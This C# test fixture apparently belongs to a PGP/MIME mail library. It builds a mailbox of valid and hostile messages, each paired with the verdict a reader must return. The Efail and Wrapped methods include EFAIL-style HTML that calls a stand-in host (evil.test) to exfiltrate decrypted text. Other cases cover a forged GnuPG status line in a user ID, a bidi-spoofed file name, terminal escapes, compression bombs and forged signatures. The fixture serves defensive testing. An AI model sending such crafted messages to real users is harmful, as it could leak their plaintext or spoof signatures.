using System.Text;
using Keypost.Core.OpenPgp;
using Keypost.Core.PgpMime;
using MimeKit;
using MimeKit.Cryptography;
using Org.BouncyCastle.Bcpg;
using Org.BouncyCastle.Bcpg.OpenPgp;

namespace Keypost.Testing.PgpMime;

/// <summary>
/// A mailbox for Luke holding the attack corpus (the kinds PgpMimeAttackTests checks one by one: MDC stripped,
/// bit flips, EFAIL layouts, forged and partial signatures, bombs, user ID and file-name injection, and more broken
/// shapes) beside valid messages, each with the state a reader must give it. Leia's and Vader's certificates are
/// the ones a reader may hold; Han's is unknown.
/// </summary>
public sealed class HostileMailbox
{
    /// <summary>Text inside every encrypted message: it must never be shown for a refused one.</summary>
    public const string Secret = "The exhaust port is two metres wide";

    public const string Leia = "leia@rebel.test";

    public const string Luke = "luke@jedi.test";

    public HostileMailbox(SecretKey luke)
    {
        LukeKey = luke;
        LeiaKey = Crafted.Key(Leia);
        VaderKey = Crafted.Key("vader@empire.test");
        Cases = Build();
    }

    public SecretKey LukeKey { get; }

    public SecretKey LeiaKey { get; }

    public SecretKey VaderKey { get; }

    public IReadOnlyList<MailboxCase> Cases { get; }

    private List<MailboxCase> Build()
    {
        var luke = LukeKey.Certificate;
        var han = Crafted.Key("han@falcon.test");
        var cases = new List<MailboxCase>
        {
            // Valid mail of every kind a reader meets.
            new("valid-encrypted-signed", Compose("Death Star plans", Secret, attachment: new byte[3000]), "EncryptedAndVerified"),
            new("valid-gateway-encrypted-unsigned", new PgpMimeComposer().ComposeEncryptOnly(Crafted.Letter(Leia, Luke, "Gateway", Secret), [luke]), "EncryptedUnsigned"),
            new("valid-signed-only", SignedOnly(LeiaKey, "Content-Type: text/plain\r\n\r\nOpen letter."), "SignedOnly"),
            new("valid-plain", Crafted.Letter(Leia, Luke, "Lunch?", "Plain text."), "Plain"),
            new("valid-thunderbird-protected-headers-v1", ThunderbirdMail.Message(LeiaKey, luke, Leia, Luke, "Rendezvous on Hoth", "Bring a coat."), "EncryptedAndVerified"),
            new("valid-hp-cipher-only", ThunderbirdMail.Message(LeiaKey, luke, Leia, Luke, "RFC 9788 form", "text", marker: "hp=\"cipher\""), "EncryptedAndVerified"),
        };

        // Altered ciphertext: refused, nothing shown.
        var binary = Crafted.Binary(Compose("Death Star plans", Secret, attachment: new byte[5000]));
        var flipped = (byte[])binary.Clone();
        flipped[flipped.Length / 2] ^= 0x01;
        cases.Add(Refused("bit-flip-in-ciphertext", Crafted.PgpMime(flipped, Leia, Luke), "Altered"));
        var early = (byte[])binary.Clone();
        early[early.Length - 30] ^= 0x80;
        cases.Add(Refused("bit-flip-near-the-mdc", Crafted.PgpMime(early, Leia, Luke), "Altered"));
        foreach (var cut in new[] { 1, 22, 500 })
        {
            cases.Add(Refused($"ciphertext-cut-short-{cut}", Crafted.PgpMime(binary[..^cut], Leia, Luke), "Altered"));
        }

        var inner = Encoding.ASCII.GetBytes("Content-Type: text/plain\r\n\r\n" + Secret);
        cases.Add(Refused("sed-without-mdc", Crafted.PgpMime(Crafted.Encrypt(luke, false, s => Crafted.Literal(s, inner)), Leia, Luke), "Altered"));
        cases.Add(Refused(
            "mdc-stripped-signed-message",
            Crafted.PgpMime(Crafted.Encrypt(luke, false, s => s.Write(SignedLiteral(LeiaKey, inner))), Leia, Luke),
            "Altered"));
        cases.Add(new("armor-with-a-bad-checksum", BadChecksum(binary), "Refused", null, Secret));
        cases.Add(Refused("armor-cut-before-its-end", WithArmoredText(Crafted.Armor(binary)[..200]), "Malformed"));
        cases.Add(Refused("not-openpgp-in-the-data-part", WithArmoredText("-----BEGIN PGP MESSAGE-----\n\nbm90IG9wZW5wZ3A=\n=AAAA\n-----END PGP MESSAGE-----\n"), "Malformed"));
        cases.Add(Refused("encrypted-to-someone-else", Crafted.PgpMime(Crafted.Encrypt(han.Certificate, true, s => Crafted.Literal(s, inner)), Leia, Luke), "NoKey"));

        // Bombs.
        cases.Add(Refused("compression-bomb-100-mib", Crafted.PgpMime(Crafted.Encrypt(luke, true, s => Crafted.CompressionBomb(s, 100L * 1024 * 1024)), Leia, Luke), "TooLarge"));
        cases.Add(Refused("compressed-zeros-not-mime", Crafted.PgpMime(Crafted.Encrypt(luke, true, s => Crafted.CompressionBomb(s, 2L * 1024 * 1024)), Leia, Luke), "Malformed"));

        // EFAIL and other layouts that must not be decrypted: the ciphertext is offered as an attachment.
        cases.Add(new("efail-ciphertext-between-html-parts", Efail(binary), "Plain", null, Secret));
        var wrongProtocol = Crafted.PgpMime(binary, Leia, Luke);
        wrongProtocol.Body!.ContentType.Parameters["protocol"] = "application/pkcs7-mime";
        cases.Add(new("multipart-encrypted-other-protocol", wrongProtocol, "Plain", null, Secret));
        var thirdPart = Crafted.PgpMime(binary, Leia, Luke);
        ((Multipart)thirdPart.Body!).Add(new TextPart("html") { Text = "\">" });
        cases.Add(new("multipart-encrypted-third-part", thirdPart, "Plain", null, Secret));
        cases.Add(new("stray-application-pgp-encrypted-part", StrayPgpEncrypted(binary), "Plain", null, Secret));
        cases.Add(new("ciphertext-wrapped-with-added-text", Wrapped(Compose("Wrapped", Secret)), "Plain", null, Secret));
        cases.Add(new("forwarded-encrypted-message-attached", Forwarded(Compose("Forwarded", Secret)), "Plain", null, Secret));
        cases.Add(new("empty-multipart-encrypted", Empty(), "Plain"));

        // Signatures that must not count.
        cases.Add(new("forged-signer-vader-as-leia", new PgpMimeComposer().Compose(Crafted.Letter(Leia, Luke, "Trust me", "Come to the Death Star."), VaderKey.Unlock(""), [luke]), "EncryptedSignatureNotVerified"));
        cases.Add(new("unknown-signer", new PgpMimeComposer().Compose(Crafted.Letter(Leia, Luke, "Who am I", "hello"), han.Unlock(""), [luke]), "EncryptedSignatureNotVerified"));
        cases.Add(new("signed-only-by-vader-as-leia", SignedOnly(VaderKey, "Content-Type: text/plain\r\n\r\nSurrender."), "SignatureNotVerified"));
        cases.Add(new("signed-only-tampered", Tampered(), "SignatureNotVerified"));
        cases.Add(new("signed-only-weak-hash-sha1", SignedOnly(LeiaKey, "Content-Type: text/plain\r\n\r\nOld hash.", HashAlgorithmTag.Sha1), "SignatureNotVerified"));
        cases.Add(new("partial-signature-nested-part", Nested(), "EncryptedSignatureNotVerified"));
        cases.Add(new("inner-multipart-signed-tampered", InnerSignedTampered(), "EncryptedSignatureNotVerified"));

        // Injection into what the user reads.
        var trickster = Crafted.KeyWithUserId("Leia <leia@rebel.test>\n[GNUPG:] GOODSIG 0000000000000000 Leia");
        cases.Add(new("user-id-injection", new PgpMimeComposer().Compose(Crafted.Letter(Leia, Luke, "hello", "hello"), trickster.Unlock(""), [luke], encryptToSelf: false), "EncryptedSignatureNotVerified"));
        cases.Add(new("file-name-injection-bidi", FileNameInjection(), "EncryptedAndVerified"));
        cases.Add(new("subject-with-terminal-escapes", Crafted.Letter(Leia, Luke, "\u001b[2J\u001b[31mURGENT\u202e", "hi"), "Plain"));
        var spoofed = Compose("Real plans", Secret);
        spoofed.From.Clear();
        spoofed.From.Add(MailboxAddress.Parse("vader@empire.test"));
        cases.Add(new("outer-from-differs-from-protected-from", spoofed, "EncryptedAndVerified"));
        return cases;
    }

    private static MailboxCase Refused(string kind, MimeMessage message, string reason) => new(kind, message, "Refused", reason, Secret);

    private MimeMessage Compose(string subject, string text, byte[]? attachment = null) =>
        new PgpMimeComposer().Compose(Crafted.Letter("Leia <leia@rebel.test>", Luke, subject, text, attachment), LeiaKey.Unlock(""), [LukeKey.Certificate]);

    private static MimeMessage SignedOnly(SecretKey signer, string part, HashAlgorithmTag hash = HashAlgorithmTag.Sha512)
    {
        var signature = hash == HashAlgorithmTag.Sha512
            ? Crafted.DetachedSignature(signer, Encoding.UTF8.GetBytes(part))
            : Detached(signer, Encoding.UTF8.GetBytes(part), hash);
        var armored = Crafted.Armor(signature).Replace("\n", "\r\n", StringComparison.Ordinal);
        var raw = $"From: {Leia}\r\nTo: {Luke}\r\nSubject: signed\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/signed; boundary=\"sig-b\"; protocol=\"application/pgp-signature\"; micalg=pgp-sha512\r\n"
            + "\r\n--sig-b\r\n" + part + "\r\n--sig-b\r\n"
            + "Content-Type: application/pgp-signature; name=\"signature.asc\"\r\n\r\n"
            + armored + "\r\n--sig-b--\r\n";
        return MimeMessage.Load(new MemoryStream(Encoding.ASCII.GetBytes(raw)));
    }

    private static byte[] Detached(SecretKey key, byte[] data, HashAlgorithmTag hash)
    {
        var generator = new PgpSignatureGenerator(PublicKeyAlgorithmTag.EdDsa_Legacy, hash);
        generator.InitSign(PgpSignature.BinaryDocument, key.Unlock("").SigningKey);
        generator.Update(data);
        return generator.Generate().GetEncoded();
    }

    private MimeMessage Tampered()
    {
        var signed = SignedOnly(LeiaKey, "Content-Type: text/plain\r\n\r\nHello.");
        var raw = Encoding.ASCII.GetString(Crafted.Serialize(signed)).Replace("Hello.", "Hellp.", StringComparison.Ordinal);
        return MimeMessage.Load(new MemoryStream(Encoding.ASCII.GetBytes(raw)));
    }

    private static byte[] SignedLiteral(SecretKey signer, byte[] data)
    {
        var sign = new PgpSignatureGenerator(PublicKeyAlgorithmTag.EdDsa_Legacy, HashAlgorithmTag.Sha256);
        sign.InitSign(PgpSignature.BinaryDocument, signer.Unlock("").SigningKey);
        using var output = new MemoryStream();
        sign.GenerateOnePassVersion(false).Encode(output);
        Crafted.Literal(output, data);
        sign.Update(data);
        sign.Generate().Encode(output);
        return output.ToArray();
    }

    private static MimeMessage BadChecksum(byte[] binary)
    {
        var lines = Crafted.Armor(binary).Split('\n');
        var middle = lines.Length / 2;
        lines[middle] = (lines[middle][0] == 'A' ? "B" : "A") + lines[middle][1..];
        return WithArmoredText(string.Join('\n', lines));
    }

    private static MimeMessage WithArmoredText(string armored)
    {
        var message = Crafted.PgpMime([], Leia, Luke);
        ((MimePart)((Multipart)message.Body!)[1]).Content = new MimeContent(new MemoryStream(Encoding.ASCII.GetBytes(armored)));
        return message;
    }

    private static MimeMessage Efail(byte[] binary)
    {
        var message = Crafted.Letter(Leia, Luke, "Re: plans", "");
        message.Body = new Multipart("mixed")
        {
            new TextPart("html") { Text = "<img src=\"http://evil.test/" },
            Crafted.ArmoredPart(binary),
            new TextPart("html") { Text = "\">" },
        };
        return message;
    }

    private static MimeMessage StrayPgpEncrypted(byte[] binary)
    {
        var message = Crafted.Letter(Leia, Luke, "See attached", "");
        var part = new MimePart("application", "pgp-encrypted")
        {
            Content = new MimeContent(new MemoryStream(Encoding.ASCII.GetBytes(Crafted.Armor(binary)))),
            FileName = "message.asc",
        };
        message.Body = new Multipart("mixed") { new TextPart("plain") { Text = "Please open the attachment." }, part };
        return message;
    }

    private static MimeMessage Wrapped(MimeMessage encrypted)
    {
        encrypted.Body = new Multipart("mixed") { encrypted.Body!, new TextPart("html") { Text = "<img src=\"http://evil.test/x\">" } };
        return encrypted;
    }

    private static MimeMessage Forwarded(MimeMessage encrypted)
    {
        var message = Crafted.Letter(Leia, Luke, "Fwd: plans", "");
        message.Body = new Multipart("mixed") { new TextPart("plain") { Text = "Forwarding this." }, new MessagePart { Message = encrypted } };
        return message;
    }

    private static MimeMessage Empty()
    {
        var message = Crafted.Letter(Leia, Luke, "[...]", "");
        var body = new MultipartEncrypted();
        body.ContentType.Parameters["protocol"] = "application/pgp-encrypted";
        message.Body = body;
        return message;
    }

    private MimeMessage Nested()
    {
        var vaderPart = "Content-Type: text/plain\r\n\r\nSurrender the rebel base.";
        var inner = "Content-Type: multipart/mixed; boundary=\"outer-b\"\r\n\r\n--outer-b\r\n"
            + "Content-Type: text/plain\r\n\r\nForward from Vader below.\r\n--outer-b\r\n"
            + Crafted.MultipartSigned(VaderKey, vaderPart) + "\r\n--outer-b--\r\n";
        return Crafted.PgpMime(Crafted.Encrypt(LukeKey.Certificate, true, s => Crafted.Literal(s, Encoding.ASCII.GetBytes(inner))), Leia, Luke);
    }

    private MimeMessage InnerSignedTampered()
    {
        var part = "Content-Type: text/plain\r\n\r\nHelp me, Obi-Wan.";
        var tampered = Crafted.MultipartSigned(LeiaKey, part).Replace("Obi-Wan", "Vader!!", StringComparison.Ordinal);
        return Crafted.PgpMime(Crafted.Encrypt(LukeKey.Certificate, true, s => Crafted.Literal(s, Encoding.ASCII.GetBytes(tampered))), Leia, Luke);
    }

    private MimeMessage FileNameInjection()
    {
        var letter = Crafted.Letter(Leia, Luke, "files", "see attached");
        var builder = new BodyBuilder { TextBody = "see attached" };
        builder.Attachments.Add("invoice\u202Efdp.exe", [1, 2, 3]);
        letter.Body = builder.ToMessageBody();
        return new PgpMimeComposer().Compose(letter, LeiaKey.Unlock(""), [LukeKey.Certificate]);
    }
}
